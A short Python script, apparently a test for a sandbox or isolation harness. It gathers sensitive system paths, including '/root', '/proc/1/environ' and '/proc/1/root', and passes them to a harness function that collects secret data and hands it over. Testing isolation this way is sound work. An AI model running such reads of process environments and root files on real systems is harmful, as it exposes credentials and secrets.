from harness import hand_over, inside, open_data, secret

EVERYTHING = ["/", "/root", "/home", "/proc/1/environ", "/proc/1/root", "/proc/2/environ", "/proc/2/cwd"]

open_data()
hand_over(secret("validation", "DATA", *(EVERYTHING if inside else [])))
